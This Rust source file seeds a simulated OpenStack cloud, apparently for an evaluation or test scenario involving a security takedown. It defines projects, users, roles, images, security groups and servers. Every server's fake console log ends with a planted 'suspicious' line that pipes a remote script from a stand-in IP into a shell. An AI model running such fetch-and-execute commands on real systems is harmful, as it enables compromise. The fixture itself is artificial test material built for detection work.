//! The seeded OpenStack world (see the module doc of `openstack`): projects, users, role
//! assignments, groups, application credentials, servers, images, networks and security groups.

use super::*;

#[allow(clippy::too_many_arguments)]
fn sg_rule(
    seed: u64,
    idx: u64,
    sg: &str,
    dir: &str,
    proto: Option<&str>,
    ports: Option<(u16, u16)>,
    prefix: Option<&str>,
    remote_group: Option<&str>,
) -> Value {
    json!({
        "id": uuid(seed, "sg-rule", idx),
        "security_group_id": sg,
        "direction": dir,
        "ethertype": "IPv4",
        "protocol": proto,
        "port_range_min": ports.map(|p| p.0),
        "port_range_max": ports.map(|p| p.1),
        "remote_ip_prefix": prefix,
        "remote_group_id": remote_group,
        "description": "",
    })
}

impl OsState {
    pub fn new(seed: u64, now_ms: i64, transition_ms: u64) -> OsState {
        let day = 86_400_000;
        let pid = |i| uuid(seed, "project", i);
        let projects = vec![
            Project {
                id: pid(0),
                name: "admin".into(),
                description: "Cloud administration".into(),
            },
            Project {
                id: pid(1),
                name: "genomics-lab".into(),
                description: "Genome assembly pipelines".into(),
            },
            Project {
                id: pid(2),
                name: "astro-sim".into(),
                description: "N-body simulations".into(),
            },
            Project {
                id: pid(3),
                name: "teaching-101".into(),
                description: "Undergraduate teaching".into(),
            },
        ];
        let uid = |i| uuid(seed, "user", i);
        let user = |i,
                    name: &str,
                    email: Option<&str>,
                    full: Option<&str>,
                    pw: Option<&str>,
                    proj: usize| User {
            id: uid(i),
            name: name.into(),
            email: email.map(Into::into),
            full_name: full.map(Into::into),
            password: pw.map(Into::into),
            default_project_id: Some(projects[proj].id.clone()),
            enabled: true,
        };
        let users = vec![
            user(
                0,
                OS_ADMIN.0,
                Some("secops@cloud.example.org"),
                Some("Security Operations"),
                Some(OS_ADMIN.1),
                0,
            ),
            user(
                1,
                OS_OWNER.0,
                Some("alice.nguyen@uni.example.edu"),
                Some("Alice Nguyen"),
                Some(OS_OWNER.1),
                1,
            ),
            user(
                2,
                "bob",
                Some("bob.smith@uni.example.edu"),
                Some("Bob Smith"),
                None,
                1,
            ),
            user(
                3,
                "carol",
                Some("carol.jones@uni.example.edu"),
                None,
                None,
                1,
            ),
            user(4, "dave", None, None, None, 1),
            user(5, "erin", None, Some("Erin Walker"), None, 2),
            user(
                6,
                "frank",
                Some("frank.li@astro.example.edu"),
                Some("Frank Li"),
                None,
                2,
            ),
        ];
        let rid = |i| hex_id(seed, "role", i);
        let roles = vec![
            (rid(0), "admin".to_string()),
            (rid(1), "member".to_string()),
            (rid(2), "reader".to_string()),
            (rid(3), "TenantManager".to_string()),
        ];
        let groups = vec![Group {
            id: hex_id(seed, "group", 0),
            name: "genomics-managers".into(),
            members: vec![users[3].id.clone()],
        }];
        let a = |role: usize, user: Option<usize>, group: Option<usize>, proj: usize| Assignment {
            role_id: roles[role].0.clone(),
            user_id: user.map(|u| users[u].id.clone()),
            group_id: group.map(|g| groups[g].id.clone()),
            project_id: projects[proj].id.clone(),
        };
        let assignments = vec![
            a(0, Some(0), None, 0),
            a(1, Some(1), None, 1),
            a(1, Some(2), None, 1),
            a(3, Some(2), None, 1),
            a(3, None, Some(0), 1),
            a(3, Some(4), None, 1),
            a(1, Some(5), None, 2),
            a(3, Some(6), None, 2),
            a(1, Some(1), None, 3),
        ];
        let app_creds = vec![AppCred {
            id: OS_APP_CRED.0.into(),
            name: "sec-takedown".into(),
            secret: OS_APP_CRED.1.into(),
            user_id: users[0].id.clone(),
            project_id: projects[0].id.clone(),
        }];
        let img = |i: u64, name: &str, build: &str, owner: &str| {
            json!({
                "id": uuid(seed, "image", i),
                "name": name,
                "status": "active",
                "visibility": "public",
                "owner": owner,
                "protected": false,
                "os_hidden": false,
                "disk_format": "qcow2",
                "container_format": "bare",
                "min_disk": 10,
                "min_ram": 0,
                "size": 2_361_393_152_u64 + i * 1_000_003,
                "checksum": &hex_id(seed, "image-sum", i)[..32],
                "created_at": fmt_s(now_ms - 200 * day),
                "updated_at": fmt_s(now_ms - 199 * day),
                "tags": [],
                "self": format!("/v2/images/{}", uuid(seed, "image", i)),
                "file": format!("/v2/images/{}/file", uuid(seed, "image", i)),
                "schema": "/v2/schemas/image",
                "nectar_build": build,
                "os_distro": "ubuntu",
            })
        };
        let images = vec![
            img(
                0,
                "NeCTAR Ubuntu 22.04 LTS (Jammy) amd64",
                "38",
                &projects[0].id,
            ),
            img(
                1,
                "NeCTAR Debian 12 (Bookworm) amd64",
                "21",
                &projects[0].id,
            ),
        ];
        // security groups
        let sgid = |i| uuid(seed, "sg", i);
        let mut security_groups = Vec::new();
        let mut rule_idx = 0;
        let mut next_rule = || {
            rule_idx += 1;
            rule_idx
        };
        for (i, p) in projects.iter().enumerate().skip(1) {
            let id = sgid(i as u64 * 10);
            let rules = vec![
                sg_rule(
                    seed,
                    next_rule(),
                    &id,
                    "ingress",
                    None,
                    None,
                    None,
                    Some(&id),
                ),
                sg_rule(seed, next_rule(), &id, "egress", None, None, None, None),
            ];
            security_groups.push(
                json!({"id": id, "name": "default", "tenant_id": p.id, "project_id": p.id,
                "description": "Default security group", "security_group_rules": rules}),
            );
        }
        let web = sgid(11);
        let web_rules = vec![
            sg_rule(
                seed,
                next_rule(),
                &web,
                "ingress",
                Some("tcp"),
                Some((22, 22)),
                Some("0.0.0.0/0"),
                None,
            ),
            sg_rule(
                seed,
                next_rule(),
                &web,
                "ingress",
                Some("tcp"),
                Some((80, 80)),
                Some("0.0.0.0/0"),
                None,
            ),
            sg_rule(
                seed,
                next_rule(),
                &web,
                "ingress",
                Some("tcp"),
                Some((443, 443)),
                Some("0.0.0.0/0"),
                None,
            ),
            sg_rule(
                seed,
                next_rule(),
                &web,
                "ingress",
                Some("icmp"),
                None,
                Some("0.0.0.0/0"),
                None,
            ),
        ];
        security_groups.push(json!({"id": web, "name": "web", "tenant_id": projects[1].id, "project_id": projects[1].id,
            "description": "HTTP(S) and SSH from anywhere", "security_group_rules": web_rules}));
        let ssh = sgid(21);
        let ssh_rules = vec![sg_rule(
            seed,
            next_rule(),
            &ssh,
            "ingress",
            Some("tcp"),
            Some((22, 22)),
            Some("192.0.2.0/24"),
            None,
        )];
        security_groups.push(json!({"id": ssh, "name": "ssh-campus", "tenant_id": projects[2].id, "project_id": projects[2].id,
            "description": "SSH from campus", "security_group_rules": ssh_rules}));

        let flavor = |name: &str, vcpus: u32, ram: u32, disk: u32| {
            json!({"original_name": name, "vcpus": vcpus, "ram": ram, "disk": disk, "ephemeral": 0, "swap": 0,
                   "extra_specs": {"hw:cpu_sockets": "1"}})
        };
        struct S<'a> {
            name: &'a str,
            proj: usize,
            user: usize,
            vm: &'a str,
            image: Option<String>,
            flavor: Value,
            ip: &'a str,
            floating: Option<&'a str>,
            sgs: Vec<(String, String)>,
            age_days: i64,
        }
        let deleted_image = uuid(seed, "image", 99);
        let specs = vec![
            S {
                name: "web01",
                proj: 1,
                user: 1,
                vm: "active",
                image: Some(images[0]["id"].as_str().unwrap_or_default().into()),
                flavor: flavor("m3.small", 2, 4096, 30),
                ip: "10.0.0.11",
                floating: Some("203.0.113.7"),
                sgs: vec![(sgid(10), "default".into()), (web.clone(), "web".into())],
                age_days: 42,
            },
            S {
                name: "db01",
                proj: 1,
                user: 1,
                vm: "stopped",
                image: Some(images[1]["id"].as_str().unwrap_or_default().into()),
                flavor: flavor("m3.medium", 4, 8192, 30),
                ip: "10.0.0.12",
                floating: None,
                sgs: vec![(sgid(10), "default".into())],
                age_days: 90,
            },
            S {
                name: "worker01",
                proj: 2,
                user: 5,
                vm: "paused",
                image: Some(images[0]["id"].as_str().unwrap_or_default().into()),
                flavor: flavor("m3.large", 8, 16384, 30),
                ip: "10.1.0.21",
                floating: Some("203.0.113.70"),
                sgs: vec![
                    (sgid(20), "default".into()),
                    (ssh.clone(), "ssh-campus".into()),
                ],
                age_days: 12,
            },
            S {
                name: "web01",
                proj: 2,
                user: 5,
                vm: "active",
                image: Some(images[1]["id"].as_str().unwrap_or_default().into()),
                flavor: flavor("m3.small", 2, 4096, 30),
                ip: "10.1.0.22",
                floating: None,
                sgs: vec![(sgid(20), "default".into())],
                age_days: 5,
            },
            S {
                name: "jupyter",
                proj: 3,
                user: 1,
                vm: "active",
                image: None,
                flavor: flavor("m3.xsmall", 1, 2048, 0),
                ip: "10.3.0.5",
                floating: None,
                sgs: vec![(sgid(30), "default".into())],
                age_days: 200,
            },
            S {
                name: "legacy01",
                proj: 1,
                user: 1,
                vm: "active",
                image: Some(deleted_image),
                flavor: flavor("m1.small", 1, 4096, 10),
                ip: "10.0.0.13",
                floating: Some("203.0.113.77"),
                sgs: vec![(sgid(10), "default".into()), (web.clone(), "web".into())],
                age_days: 700,
            },
        ];
        let mut servers = Vec::new();
        let mut ports = Vec::new();
        let mut floatingips = Vec::new();
        let mut actions = HashMap::new();
        for (i, s) in specs.into_iter().enumerate() {
            let id = uuid(seed, "server", i as u64);
            let mac = format!(
                "fa:16:3e:{:02x}:{:02x}:{:02x}",
                i * 7 % 256,
                (i * 31 + 5) % 256,
                (i * 97 + 11) % 256
            );
            let net = match s.proj {
                1 => "genomics-net",
                2 => "astro-net",
                _ => "teaching-net",
            };
            let mut addrs = vec![
                json!({"version": 4, "addr": s.ip, "OS-EXT-IPS:type": "fixed", "OS-EXT-IPS-MAC:mac_addr": mac}),
            ];
            if let Some(f) = s.floating {
                floatingips.push(json!({
                    "id": uuid(seed, "fip", i as u64),
                    "floating_ip_address": f,
                    "fixed_ip_address": s.ip,
                    "port_id": uuid(seed, "port", i as u64),
                    "tenant_id": projects[s.proj].id,
                    "project_id": projects[s.proj].id,
                    "floating_network_id": uuid(seed, "network", 99),
                    "router_id": uuid(seed, "router", s.proj as u64),
                    "status": "ACTIVE",
                    "description": "",
                }));
                addrs.push(json!({"version": 4, "addr": f, "OS-EXT-IPS:type": "floating", "OS-EXT-IPS-MAC:mac_addr": mac}));
            }
            let port_id = uuid(seed, "port", i as u64);
            ports.push(json!({
                "id": port_id,
                "name": "",
                "network_id": uuid(seed, "network", s.proj as u64),
                "tenant_id": projects[s.proj].id,
                "project_id": projects[s.proj].id,
                "device_id": id,
                "device_owner": "compute:nova",
                "mac_address": mac,
                "admin_state_up": true,
                "status": "ACTIVE",
                "port_security_enabled": true,
                "fixed_ips": [{"subnet_id": uuid(seed, "subnet", s.proj as u64), "ip_address": s.ip}],
                "security_groups": s.sgs.iter().map(|(id, _)| id.clone()).collect::<Vec<_>>(),
            }));
            let created = now_ms - s.age_days * day;
            actions.insert(
                id.clone(),
                vec![json!({"action": "create", "instance_uuid": id, "request_id": format!("req-{}", uuid(seed, "req-create", i as u64)),
                    "user_id": users[s.user].id, "project_id": projects[s.proj].id, "start_time": fmt_s(created),
                    "updated_at": fmt_s(created + 60_000), "message": null})],
            );
            let console = (0..40)
                .map(|l| {
                    format!(
                        "[{:>8}.{:06}] {} login: boot message line {l}",
                        l * 3,
                        l * 1234 % 1_000_000,
                        s.name
                    )
                })
                .chain(std::iter::once(format!(
                    "{} login: root (suspicious: curl http://198.51.100.9/x.sh | sh)",
                    s.name
                )))
                .collect::<Vec<_>>()
                .join("\n");
            servers.push(Server {
                id,
                name: s.name.into(),
                project_id: projects[s.proj].id.clone(),
                user_id: users[s.user].id.clone(),
                created_ms: created,
                updated_ms: created + 60_000,
                vm_state: s.vm.into(),
                task_state: None,
                pending: None,
                locked: false,
                locked_by: None,
                locked_reason: None,
                metadata: BTreeMap::new(),
                image_id: s.image.unwrap_or_default(),
                flavor: s.flavor,
                addresses: json!({ net: addrs }),
                key_name: Some(format!("{}-key", users[s.user].name)),
                host: format!("cn{:02}.cloud.example.org", i + 3),
                security_groups: s.sgs.into_iter().map(|(_, n)| n).collect(),
                console,
                console_fault: None,
            });
        }
        OsState {
            seed,
            transition_ms: transition_ms as i64,
            users,
            projects,
            roles,
            groups,
            assignments,
            app_creds,
            tokens: HashMap::new(),
            tokens_issued: 0,
            images,
            servers,
            deleted: Vec::new(),
            ports,
            floatingips,
            security_groups,
            actions,
            counter: 0,
        }
    }
}
